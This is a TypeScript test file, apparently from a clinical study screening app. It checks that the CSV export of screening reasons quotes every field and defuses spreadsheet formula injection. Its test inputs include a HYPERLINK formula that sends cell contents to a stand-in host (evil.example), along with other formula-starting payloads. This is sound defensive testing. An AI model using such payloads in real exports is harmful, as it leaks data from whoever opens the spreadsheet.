import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parseCsv } from '../../src/stats/csv.ts';
import { engines } from '../support/engines.ts';
import { screen, screeningBody, studySite, type StudySite } from '../support/study-fixtures.ts';
import { startTestApp, type TestApp } from '../support/test-app.ts';

/**
 * The screening log export, opened in a spreadsheet, runs nothing typed into the screening form: every field is
 * quoted, and text that would open a formula (at the field's start or after a semicolon, which Excel with Dutch
 * settings splits on) starts with an apostrophe. The rules themselves are specified in src/core/csv.test.ts.
 */

const hostileReasons = ['=HYPERLINK("http://evil.example/?"&A1)', ';=1+1', 'family; @SUM(A1:A9)', '＋1+1', '-2+3'];
const defused = ['\'=HYPERLINK("http://evil.example/?"&A1)', ";'=1+1", "family;' @SUM(A1:A9)", "'＋1+1", "'-2+3"];

describe.each(engines)('screening log export on $name', (engine) => {
  let t: TestApp;
  let site: StudySite;

  beforeAll(async () => {
    t = await startTestApp(engine);
    site = await studySite(t, 'CSV');
    for (const reason of hostileReasons) {
      const { screening } = await screen(site.nurse, site.siteId, screeningBody());
      await site.nurse
        .call('POST', `/api/screenings/${screening.id}/outcome`, { outcome: 'not_approached', reason })
        .expect(200);
    }
  });
  afterAll(() => t.close());

  it('quotes every field of every line', async () => {
    const csv = await site.nurse.call('GET', `/api/sites/${site.siteId}/screenings/export`).expect(200);
    const lines = csv.text.split('\r\n').slice(0, -1);
    expect(lines).toHaveLength(hostileReasons.length + 1);
    for (const line of lines) expect(line).toMatch(/^"([^"]|"")*"(,"([^"]|"")*")*$/);
  });

  it('defuses typed text that a spreadsheet would run as a formula, and reads back otherwise unchanged', async () => {
    const csv = await site.nurse.call('GET', `/api/sites/${site.siteId}/screenings/export`).expect(200);
    const table = parseCsv(csv.text);
    expect([...table.column('outcome_reason')].sort()).toEqual([...defused].sort());
    expect(table.column('outcome')).toEqual(hostileReasons.map(() => 'not_approached'));
  });
});
